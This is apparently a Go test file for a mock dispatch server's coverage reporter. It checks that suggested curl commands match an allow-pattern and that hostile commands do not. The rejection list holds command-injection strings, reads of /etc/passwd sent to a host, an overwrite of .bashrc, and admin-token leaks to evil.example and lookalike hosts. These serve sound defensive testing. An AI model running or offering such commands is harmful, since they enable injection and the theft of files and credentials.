package coverage_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"dispatchmock/internal/coverage"
	"dispatchmock/internal/testkit"
)

// stages are scenarios of each kind of condition.
var stages = []string{
	`{"name": "plain", "description": "Fails.", "then": {"error": {"code": "internal", "status": 500}}}`,
	`{"name": "deletes", "description": "Fails a DELETE.", "when": {"method": "DELETE"}, "then": {"respond": {"status": 503}}}`,
	`{"name": "third", "description": "Fails the third.", "when": {"nth": 3}, "then": {"respond": {"status": 503}}}`,
	`{"name": "chance", "description": "Fails now and then.", "when": {"probability": 0.5}, "then": {"respond": {"status": 503}}}`,
	`{"name": "rated", "description": "Too many.", "then": {"rate_limit": {"requests": 2, "per": "5m"}}}`,
	`{"name": "version", "description": "Of a version.", "when": {"version": "2021/04/07"}, "then": {"respond": {"status": 503}}}`,
	`{"name": "expired", "description": "The token has expired.", "then": {"error": {"code": "token_unknown", "status": 401}}}`,
	`{"name": "silent", "description": "Never answers.", "then": {"connection": {"fault": "reset"}}}`,
}

// alike has clients whose IDs are alike.
var alike = map[string]string{"more.json": `{"clients": [
	{"token": "third-token", "client_id": "driver_app", "roles": ["CrmUser"], "tenants": [1]},
	{"token": "fourth-token", "client_id": "driver-app", "roles": ["ThirdPartyDriver"], "tenants": [1]}]}`}

// TestCommands runs the command of each item, and holds that it covers it: in
// the default session and in another.
func TestCommands(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, session string
		settings      settings
		// without are items that no request of the session covers.
		without []string
	}{
		{"default", "", settings{}, nil},
		{"scenarios", "", settings{scenarios: stages, files: alike}, nil},
		{"session", "mine", settings{}, []string{"limits: "}},
		{"any token", "", settings{anyToken: true}, nil},
		{"other choices", "", settings{choices: `{"not_acceptable": 200, "repeated_delete": 409, "version_pin_moves": "success", "tenant_foreign": 404}`}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			r := launch(t, c.settings)
			if c.session != "" {
				response, err := http.Post(r.url+"/_mock/sessions", "application/json", strings.NewReader(`{"id": "`+c.session+`"}`))
				if err != nil {
					t.Fatal(err)
				}
				response.Body.Close()
			}
			_, f := load(t, c.settings)
			for _, g := range r.Coverage().Report(c.session, r.live()).Groups {
				for _, item := range g.Items {
					name := g.Name + ": " + item.Name
					for _, client := range f.Base.Clients() {
						if strings.Contains(item.Sentence+item.Command, client.Token) {
							t.Errorf("%s has the token %s: %s", name, client.Token, item.Command)
						}
					}
					switch {
					case item.Covered || item.Sentence == "":
						t.Errorf("%s is covered before anything was asked, or no sentence says what it is: %+v", name, item)
					case item.Command == "":
						t.Errorf("%s has no command", name)
					case !coverage.Commands(r.url + "/_mock").MatchString(item.Command):
						t.Errorf("%s has a command that ctl does not show: %.1000s", name, item.Command)
					case c.name != "default" && c.name != "scenarios" && (g.Name == "records" || g.Name == "scenarios"):
						// As in the default data set.
					case len(c.without) > 0 && strings.HasPrefix(name, c.without[0]):
					default:
						// What is given up is recorded all the same; a busy machine may
						// give it up before the mock has seen it.
						for most := 500 * time.Millisecond; ; most *= 2 {
							r.Coverage().Clear()
							out := r.shell(t, strings.ReplaceAll(item.Command, "--max-time 5", fmt.Sprintf("--max-time %v", most.Seconds())))
							if r.covers(c.session, name) {
								break
							}
							if !strings.Contains(out, "curl: (28)") || most > testkit.Patience/8 {
								t.Errorf("%s is not covered by\n%s\nwhich prints\n%s", name, item.Command, out)
								break
							}
						}
					}
				}
			}
		})
	}
}

// TestHostileCommands holds that what does more than ask the mock is none of
// the commands, whoever sends it.
func TestHostileCommands(t *testing.T) {
	t.Parallel()
	admin := "http://127.0.0.1:8003/_mock"
	pattern := coverage.Commands(admin)
	good := `curl -isS -X DELETE -H "Authorization: Bearer $DISPATCHMOCK_TOKEN" -H 'x-tenant-id: it'\''s' http://127.0.0.1:8003/customers/1`
	with := `curl -isS -X PUT -d '{"pins":{}}' -H "X-Mock-Token: $DISPATCHMOCK_ADMIN_TOKEN" `
	for _, command := range []string{good, good + " && " + good, with + admin + "/pins", "for i in $(seq 3); do " + good + "; done", `curl -isS 'http://[::1]:1/a?b=$(id)'`} {
		if !pattern.MatchString(command) {
			t.Errorf("%s is rejected", command)
		}
	}
	for _, command := range []string{
		"", "id", good + "; id", good + " & id", good + " | sh", good + "\nid", "id\n" + good, good + " > file", good + " && id", good + " # &", good + " $(id)", good + " `id`",
		good + " && ", good + " http://other", "for i in $(seq 3); do id; done", "for i in $(id); do " + good + "; done",
		"curl -isS -o .bashrc http://a/", "curl -isS -K file http://a/", "curl -isS -T file http://a/", "curl -isS file:///etc/passwd", "curl -isS -d @/etc/passwd http://a/",
		"curl -isS -d '@/etc/passwd' http://a/", "curl -isS -H @/etc/passwd http://a/", "curl -isS -H '@/etc/passwd' http://a/", "curl -isS --data-binary @/etc/passwd http://a/",
		`curl -isS -H "a: $(id)" http://a/`, `curl -isS -H "a: $HOME" http://a/`, `curl -isS -H "Authorization: Bearer $DISPATCHMOCK_ADMIN_TOKEN" http://a/`,
		`curl -isS -H "X: $DISPATCHMOCK_TOKEN$(id)" http://a/`, "curl -isS http://a[1-9]/", "curl -isS 'http://a/'\\'$(id)", `curl -isS "http://a/"`, "curl -isS http://a/$(id)",
		with + "http://evil.example/_mock/pins", with + "http://evil.example/ && " + with + admin + "/pins", with + "http://127.0.0.1:8003.evil.example/_mock/", with + "http://127x0.0.1:8003/_mock/",
		"curl -isS http://a/ -X\x1bGET", "head -c 1 /etc/passwd | curl -isS --data-binary @- http://a/",
	} {
		if pattern.MatchString(command) {
			t.Errorf("%s is taken for a command of ours", command)
		}
	}
}
